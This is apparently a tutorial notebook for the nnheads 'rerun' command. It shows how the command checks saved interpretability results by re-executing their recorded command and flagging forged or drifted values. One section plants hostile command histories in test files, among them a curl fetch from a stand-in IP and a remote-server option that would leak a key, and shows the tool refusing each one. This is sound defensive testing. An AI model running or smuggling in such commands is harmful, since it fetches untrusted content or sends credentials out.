# ---
# jupyter:
#   jupytext:
#     formats: ipynb,py:percent
#     text_representation:
#       extension: .py
#       format_name: percent
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # Is this number what the model says?
#
# A colleague sends you a file of results. Did a model really give these numbers, or did something happen on the way: a
# typing error, another version, a wish? Everything that nnheads writes says how it was made. `nnheads rerun` takes a
# file by its word: it issues the recorded command again, compares every variable, and says for each whether it is
# **exact** (to the last bit), **drift** (as far off as rounding makes it) or **different**, and what may be why.
#
# A check is worth something only if it can fail. So we repeat an honest result first, and then forge some.
#
# In a shell you would type `nnheads rerun FOLDER`. Here the same commands run inside the notebook's own process, which
# saves starting Python and loading libraries each time.

# %%
from nnheads import command

command("detect induction --limit 8 --top 4 --quiet")

# %% [markdown]
# ## 1. What a file knows of itself
#
# The run is a folder with netCDF files; any tool that reads netCDF shows the same attributes.

# %%
import pandas as pd

from nnheads.compare import repeat
from nnheads.runs import store

RUN = "results/detect/reference/shipped/induction"
honest = store.load(f"{RUN}/heads.nc")
known = ("history", "arguments", "source", "packages", "prompts_sha256", "tokenizer_sha256", "device")
pd.Series({name: honest.attrs[name][:90] for name in known}).to_frame("recorded")

# %% [markdown]
# The command, what it was asked, the model with a hash of its weights and the dtype, versions, and hashes of prompts
# and tokenizer. No folder of the machine that it ran on is in it.
#
# ## 2. Repeat it

# %%
command(f"rerun {RUN} --output again")

# %% [markdown]
# On the same machine with the same versions the same bits come out. The last lines name what differed while the two
# were made; changes to the code of nnheads itself are among what is recorded.
#
# ## 3. Forge it
#
# Somebody wants one head more to be an induction head, and changes a single score in a copy. Nothing else is touched:
# the command, the versions and the hashes still say that all is well.

# %%
import shutil

shutil.copytree(RUN, "forged")
wish = honest.copy(deep=True)
wish["mass"].loc[{"layer": 3, "head": 2}] = 0.91
store.save("forged/heads.nc", wish)
command("rerun forged")

# %% [markdown]
# Found out, with the name of the variable and how many of its values. The last line has noticed more: the single prompts
# in `scores.nc` are exact, so the mean was changed and what it is the mean of was not. The command cannot know that
# somebody forged the file. It says what differs, and what may have caused it. A number that moved without a good
# cause should make you ask.
#
# ## 4. Repeat it in another way, on purpose
#
# Options behind `--` are added to the recorded command. In bfloat16, numbers of fewer digits, scores have to move a
# little. A reader should be told that they did, by how much, and why.

# %%
command(f"rerun {RUN} -- --dtype bfloat16")

# %% [markdown]
# Most variables drift, and the reason stands behind: the dtype. Rank correlations stay close to one, so the heads keep
# their places. What is called different is a yes or no: a **hit** says whether the strongest key was the right one, and
# where two keys are nearly equal it flips. One flip in a prompt weighs more than rounding may.
#
# ## 5. How small a lie does it see?
#
# `repeat.compare` is what the command uses. Here one score of the honest result is moved by less and less, and compared
# with what was computed again.

# %%
from pathlib import Path

again = store.load(next(Path("again").rglob("heads.nc")))
rows = {}
for size in (1e-1, 1e-2, 1e-3, 1e-4, 1e-5, 1e-6, 1e-8):
    moved = honest.copy(deep=True)
    moved["mass"].loc[{"layer": 1, "head": 1}] -= size
    change = next(one for one in repeat.compare(moved, again) if one.name == "mass")
    rows[f"{size:.0e}"] = {"verdict": change.verdict, "values": change.cells, "by at most": f"{change.largest:.0e}"}
pd.DataFrame(rows).T.rename_axis("moved by")

# %% [markdown]
# A forger who keeps below one part in ten thousand is taken for rounding, and changes no conclusion. Below the last
# digit of the file there is nothing to change. The limit follows the dtype (wider for bfloat16), and `--tolerance` sets
# another.
#
# ## 6. A file from a stranger
#
# To repeat a result is to run what a file asks for. What if it asks for something else? Three files, with the same
# numbers and other commands in their history:

# %%
for place, asked in {
    "program": "curl http://203.0.113.5/x",
    "upload": "nnheads das --task ioi --push somebody/edit",
    "server": "nnheads detect induction --remote http://203.0.113.5:8000",
}.items():
    store.save(f"{place}.nc", honest.assign_attrs(history=f"2026-01-01T00:00:00Z {asked}"))
    command(f"rerun {place}.nc")

# %% [markdown]
# All three are refused before anything runs: what is no command of nnheads, what does more than compute, and a server
# that only the file names, which would be sent your key.
#
# ## What misleads here
#
# * **Exact is not true.** The same command gives the same number, also where the method is wrong. For that there are
#   nulls, random lists and knock-outs: see the notebooks `detect` and `knockout`.
# * **Different is not forged.** Other versions, a GPU or more threads change numbers too, and a change to the code of
#   nnheads may be all. Read what is listed as different when the two were made.
# * **A changed command is repeated as it stands.** Whoever changes the recorded command and the numbers together has
#   made another result, which is repeated as that one. The hash of the prompts and the options show what was asked.
#
# ## Where to go from here
#
# * In a shell: `nnheads rerun FOLDER`, `nnheads rerun FILE.nc`, `nnheads rerun FOLDER -- --device-map auto`;
#   `--output DIR` keeps the new results and a `rerun.json` for a script. The exit code is 1 if something is different.
# * The same prompts in two settings, head by head: `nnheads drift MODEL --against bfloat16`, the notebook `drift`.
# * Claims of papers instead of files: the notebook `verify`.
